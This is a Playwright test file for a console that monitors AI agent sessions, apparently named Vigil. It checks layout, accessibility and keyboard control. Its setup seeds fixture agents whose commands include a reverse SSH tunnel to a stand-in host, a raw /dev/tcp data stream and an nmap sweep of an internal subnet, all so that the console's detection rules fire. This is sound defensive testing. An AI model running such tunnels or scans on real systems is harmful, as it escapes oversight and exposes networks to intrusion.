// How it looks, at three sizes and in both themes, on real sessions; and that it stays usable for everyone (axe). The pictures land in
// test-results/screens; `VIGIL_README_PICTURE=1 npm test -- e2e/screens` renews the one in the README.
import { mkdirSync } from 'node:fs'
import path from 'node:path'
import AxeBuilder from '@axe-core/playwright'
import { type Browser, expect, type Page, test } from '@playwright/test'
import { listenOnLoopback, type Peer } from './peer.ts'
import { type Product, signIn, startProduct, until, whyNoCgroup } from './product.ts'

const missing = whyNoCgroup()
test.skip(missing !== undefined && !process.env.CI, `LEFT OUT: ${missing}`)
test.describe.configure({ timeout: 60_000 })

const root = path.resolve(import.meta.dirname, '..')
const folder = path.join(root, 'test-results/screens')
const sizes = [
  { name: '1600', width: 1600, height: 1000 },
  { name: '1280', width: 1280, height: 800 },
  { name: '390', width: 390, height: 844 },
]
/** What is left of a screen at 200 % zoom: half as wide and half as high, and all text twice as large on the glass. */
const zoomed = {
  dark: { name: '1600-at-200', width: 800, height: 500 },
  light: { name: '1280-at-200', width: 640, height: 400 },
}

let product: Product
let peer: Peer
/** The firewall's alert. */
let alertId = ''
/** The rule that the tunnel fires. */
let ruleId = ''
test.beforeAll(async () => {
  mkdirSync(folder, { recursive: true })
  product = await startProduct()
  peer = await listenOnLoopback()
  const loop = (work: string) => `while true; do ${work}; sleep 1; done`
  const agents: [string, string, string, string][] = [
    [
      'ep-7f3a91',
      'rome-30b',
      'swe-gym · astropy-13236',
      `exec 3<>/dev/tcp/127.0.0.1/${peer.port}; ${loop('head -c 2000 /dev/zero >&3; i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done')}`,
    ],
    ['ep-7f3b02', 'rome-30b', 'swe-gym · django-16379', loop('i=0; while [ $i -lt 40000 ]; do i=$((i+1)); done')],
    ['ep-7f3a44', 'rome-30b', 'terminal-bench · qemu-startup', loop('grep -rn slots /usr/include/linux >/dev/null')],
    ['ep-7f39c8', 'iflow-cli', 'travel-plan · 0412', loop('true')],
    ['ep-7f3b22', 'qwen3-coder', 'swe-gym · requests-5414', loop('find /etc -name hosts >/dev/null 2>&1')],
  ]
  for (const [session, agent, task, script] of agents)
    product.vigil('run', '--session', session, '--agent', agent, '--task', task, '--', 'bash', '-c', script)
  const over = product.vigil(
    'run',
    '--session',
    'ep-7f3a10',
    '--agent',
    'rome-30b',
    '--task',
    'swe-gym · sympy-20212',
    '--',
    'sh',
    '-c',
    'sleep 1; exit 1',
  )
  await new Promise((resolve) => over.once('exit', resolve))
  await until(
    'all are seen',
    async () => (await product.json<{ sessions: unknown[] }>('/api/sessions')).sessions.length === 6,
  )
  const says = (session: string, call: string, command: string) =>
    JSON.stringify({
      v: 1,
      kind: 'action.started',
      atMs: Date.now(),
      session,
      data: { call, tool: 'shell', input: JSON.stringify({ command }), summary: command },
    })
  await product.api('/api/ingest/events', {
    method: 'POST',
    body: [
      says('ep-7f3a91', 'c1', 'ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 ops@203.0.113.40'),
      says('ep-7f3a44', 'c1', 'nmap -sT -p 22,6379,9200 10.0.8.0/24'),
      says('ep-7f3b22', 'c1', 'python -m pip install -e .'),
      says('trace-5b8efff798038103', 'c1', 'pytest -x astropy/wcs -q'),
    ].join('\n'),
  })
  // Waits for a person as long as the pictures take, or is denied then: the room shows it either way.
  const tunnel = { command: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' }
  const ask = { session: 'ep-7f39c8', callId: 'c1', tool: 'Bash', input: tunnel, deadlineMs: 3_600_000 }
  void product
    .api('/api/gate', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(ask),
    })
    .catch(() => undefined)
  // What the rooms of sources, GPUs and egress show: a firewall's record and a broken one, a GPU in use by somebody who is not planned there.
  const now = Date.now()
  const eve = JSON.stringify({
    timestamp: new Date(now).toISOString().replace('Z', '+0000'),
    event_type: 'alert',
    src_ip: '192.0.2.7',
    src_port: 40_001,
    dest_ip: '203.0.113.40',
    dest_port: 22,
    proto: 'TCP',
    alert: { action: 'allowed', signature_id: 1, signature: 'SSH to a host on no allowlist', severity: 1 },
  })
  await product.api('/api/ingest/suricata-eve?source=edge', { method: 'POST', body: `${eve}\n{"half": ` })
  await product.api('/api/placements', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ placements: [{ host: 'gpu-node-17', index: 0, worker: 'actor-0' }] }),
  })
  const { signals } = await product.json<{ signals: { id: string }[] }>('/api/signals?groups=alerts')
  alertId = signals[0]?.id ?? ''
  const { rules } = await product.json<{ rules: { id: string; title: string }[] }>('/api/rules')
  ruleId = rules.find(({ title }) => title.startsWith('SSH opens a port on the far side'))?.id ?? ''
  const use = { gpu: 'index-0', index: 0, pid: 48_307, name: 'python3' }
  await product.api('/api/ingest/events', {
    method: 'POST',
    body: JSON.stringify({ v: 1, kind: 'gpu.process.reported', atMs: now, host: 'gpu-node-17', data: use }),
  })
  const pause = {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ action: 'pause', reason: 'tunnel, keep for imaging' }),
  }
  for (const session of ['ep-7f3b02', 'ep-7f3a91']) {
    const { id } = (await (await product.api(`/api/sessions/${session}/controls`, pause)).json()) as { id: string }
    expect((await product.json<{ state: string }>(`/api/controls/${id}?waitMs=5000`)).state).toBe('enforced')
  }
  await new Promise((resolve) => setTimeout(resolve, 12_000)) // enough samples for the sparklines to be lines
})
test.afterAll(async () => {
  await product.stop()
  peer.close()
})

async function violations(page: Page): Promise<string[]> {
  const found = await new AxeBuilder({ page }).analyze()
  return found.violations.map(({ id, nodes }) => `${id} ${nodes[0]?.target.join(' ')}`)
}

/** Controls that lie where nothing brings them into sight: cut by what does not scroll, or beside the window. */
async function outOfReach(page: Page): Promise<string[]> {
  return await page.evaluate(() => {
    const cut: string[] = []
    /** The empty edge of a link that stands out for its hit area. */
    const most = 4.5
    const scrolls = (value: string) => value === 'auto' || value === 'scroll'
    for (const control of document.querySelectorAll<HTMLElement>(
      'a, button, input, select, textarea, [role=button], [role=tab]',
    )) {
      const own = control.getBoundingClientRect()
      // What is for the ears only is a dot.
      if (own.width < 4 || own.height < 4 || !control.checkVisibility({ visibilityProperty: true })) continue
      let { left, right, top, bottom } = own
      for (let box = control.parentElement; box; box = box.parentElement) {
        const style = getComputedStyle(box)
        const outer =
          box === document.documentElement
            ? { left: 0, top: 0, right: innerWidth, bottom: innerHeight }
            : box.getBoundingClientRect()
        if (outer.right - outer.left < 2) break // a heading for the ears only
        const isPage = box === document.documentElement || box === document.body
        if (isPage && box !== document.documentElement) continue
        const clipsX = isPage || style.overflowX !== 'visible'
        const clipsY = isPage || style.overflowY !== 'visible'
        const named = `${control.tagName.toLowerCase()} "${(control.ariaLabel ?? control.textContent ?? '').trim().slice(0, 40)}"`
        if (clipsX) {
          if (scrolls(style.overflowX)) ({ left, right } = outer)
          else if (left < outer.left - most || right > outer.right + most) {
            cut.push(`${named} is cut at a side`)
            break
          }
        }
        if (clipsY) {
          // A page whose document is higher than the window scrolls by itself.
          const free = isPage && document.documentElement.scrollHeight > innerHeight
          if (scrolls(style.overflowY) || free) ({ top, bottom } = outer)
          else if (top < outer.top - most || bottom > outer.bottom + most) {
            cut.push(`${named} is cut above or below`)
            break
          }
          // Into a box that is no higher than a line nothing can be brought.
          if (scrolls(style.overflowY) && !isPage && outer.bottom - outer.top < 24) {
            cut.push(`${named} lies in a box of ${Math.round(outer.bottom - outer.top)} px`)
            break
          }
        }
        if (style.position === 'fixed') break
      }
    }
    return [...new Set(cut)].slice(0, 6)
  })
}

test('the console in both themes at every size: nothing overflows, nothing is out of reach, axe has no complaint', async ({
  browser,
}) => {
  // Three widths of every room in each theme, the outer two looked at by axe: the two themes side by side, because one leaves a core idle.
  test.setTimeout(1_200_000)
  const problems = await Promise.all((['dark', 'light'] as const).map((theme) => lookAtAll(browser, theme)))
  expect(problems.flat()).toEqual([])
})

/** All that is wrong, not the first of it. */
async function lookAtAll(browser: Browser, theme: 'dark' | 'light'): Promise<string[]> {
  const problems: string[] = []
  const context = await browser.newContext()
  await context.addCookies([{ name: 'vigil-theme', value: theme, url: product.url }])
  const page = await context.newPage()
  await signIn(page, product)
  // Each room is opened once in each theme and then resized. Dark opens at the widest and narrows, light the other way: so each room is
  // opened at both ends, and each width is reached from a wider and from a narrower one.
  // At 200 % zoom each theme is seen at one width, last.
  const inTurn = [...(theme === 'dark' ? sizes : sizes.toReversed()), zoomed[theme]]
  for (const [room, url, ...shown] of [
    ['live', '/live', 'ep-7f3a91', 'Resume'],
    ['lanes', '/live?view=lanes', 'ep-7f3a91', '15 min'],
    ['session', '/sessions/ep-7f3a91', 'ep-7f3a91', 'Resume'],
    ['approvals', '/approvals', 'ssh -fN -R 2222'],
    ['replay', '/replay', 'Look at the whole console as it was', 'It is'],
    ['sources', '/sources', 'Suricata EVE'],
    ['server', '/sources/server', 'What failed since the start', 'Commit, 99 of 100 within'],
    ['gpus', '/gpus', 'gpu-node-17'],
    ['gpu', '/gpus/gpu?host=gpu-node-17&gpu=index-0', 'Who should', 'actor-0'],
    ['rules', '/rules?q=tunnel', 'SSH opens a port on the far side'],
    ['rule', `/rules/rule?id=${ruleId}`, 'Why it matters', 'What fired lately'],
    ['rule-text', '/rules/edit?name=pack/tunnel/ssh-remote-forward.yml', '1 rule found', 'as expected'],
    ['rule-new', '/rules/edit', 'A template, not saved', 'as expected'],
    ['settings', '/settings', 'API keys', 'Where the screen hangs'],
    ['incidents', '/incidents', 'INC-1', 'Detected in'],
    ['incident', '/incidents/INC-1', 'INC-1', 'What happened', 'Log'],
    ['postmortem', '/incidents/INC-1/postmortem', 'What did not', 'Print or save as PDF', 'Nobody wrote this yet'],
    ['numbers', '/numbers', 'How long it took', 'Time to detect', 'Actions that asked for a person'],
    ['audit', '/audit', 'Check the chain', 'operator.signed-in'],
    ['drills', '/drills', 'Run the ROME drill', 'Needs: '],
    ['wall', '/wall', 'Approvals waiting', 'Live · newest fact'],
    ['sources-add', '/sources?add=yes', 'Point an OpenTelemetry exporter here'],
    ['egress', '/egress', 'SSH to a host on no allowlist', 'suricata-eve/edge'],
    ['egress-empty', '/egress?tab=lookups', 'No lookup has come in yet'],
    ['egress-open', `/egress?open=${alertId}`, 'The fact as it is in the log', 'Copy'],
    ['egress-destinations', '/egress/destinations', 'as hosts and trainers told them'],
    ['egress-allowlists', '/egress/allowlists', 'Expect this destination'],
  ] as const) {
    for (const [turn, { name, width, height }] of inTurn.entries()) {
      await page.setViewportSize({ width, height })
      if (turn === 0) await page.goto(product.url + url)
      const place = `${room} ${name} ${theme}`
      for (const text of shown) {
        const seen = page.getByText(text).filter({ visible: true }).first()
        await seen.waitFor({ timeout: 10_000 }).catch(() => problems.push(`${place}: "${text}" is not to be seen`))
      }
      // Once opened, what comes in by itself comes in; once resized, what moves (a chart, a panel) comes to rest.
      await page.waitForTimeout(turn === 0 ? 1_200 : 400)
      await page.screenshot({ path: path.join(folder, `${room}-${name}-${theme}.png`) })
      const overflow = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      )
      if (overflow > 0) problems.push(`${place}: scrolls sideways by ${overflow} px`)
      if (name === zoomed[theme].name) problems.push(...(await outOfReach(page)).map((each) => `${place}: ${each}`))
      // Each room in both themes: dark at the widest, light at the narrowest.
      if (turn === 0) problems.push(...(await violations(page)).map((each) => `${place}: ${each}`))
      if (process.env.VIGIL_README_PICTURE && theme === 'dark' && name === '1600' && room === 'live') {
        await page.screenshot({ path: path.join(root, 'e2e/live.png') })
      }
    }
  }
  await context.close()
  return problems
}

test('the keyboard is enough: find, open, pause, resume, go back', async ({ page }) => {
  await signIn(page, product)
  await expect(page.getByRole('row', { name: /ep-7f3a44/ })).toBeVisible()
  await page.keyboard.press('/')
  await page.keyboard.type('7f3a44')
  await expect(page.getByRole('row', { name: /ep-7f3a91/ })).toBeHidden()
  // A letter typed into a field is a letter.
  await page.keyboard.type('p')
  await page.keyboard.press('Backspace')
  expect((await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state).toBe('running')
  await page.keyboard.press('Enter')
  await page.keyboard.press('j')
  await page.keyboard.press('p')
  await until(
    'it is paused',
    async () => (await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state === 'paused',
  )
  await page.keyboard.press('p')
  await until(
    'it runs again',
    async () => (await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state === 'running',
  )
  await page.keyboard.press('o')
  await page.waitForURL('**/sessions/ep-7f3a44')
  await expect(page.getByText('Before you click')).toBeVisible()
  await page.keyboard.press('g')
  await page.keyboard.press('l')
  await page.waitForURL('**/live**')
})

test('a fact is found, read and closed again with keys alone, and its link shows the same to somebody else', async ({
  page,
}) => {
  await signIn(page, product)
  await page.keyboard.press('g')
  await page.keyboard.press('e')
  await page.waitForURL('**/egress')
  const row = page.getByRole('button', { name: /SSH to a host on no allowlist/ })
  await expect(row).toBeVisible()
  await page.keyboard.press('/')
  await page.keyboard.type('203.0.113.40')
  await page.keyboard.press('Enter')
  await page.waitForURL('**q=203.0.113.40**')
  await page.keyboard.press('j')
  await expect(row).toBeFocused()
  await page.keyboard.press('Enter')
  const fact = page.getByRole('region', { name: 'The fact as it is in the log' })
  await expect(fact.getByText('traffic.destination.address')).toBeVisible()
  const link = page.url()
  await page.keyboard.press('Escape')
  await expect(fact).toBeHidden()
  await expect(row).toBeFocused()
  await page.goto(link)
  await expect(fact.getByText('traffic.destination.address')).toBeVisible()
})
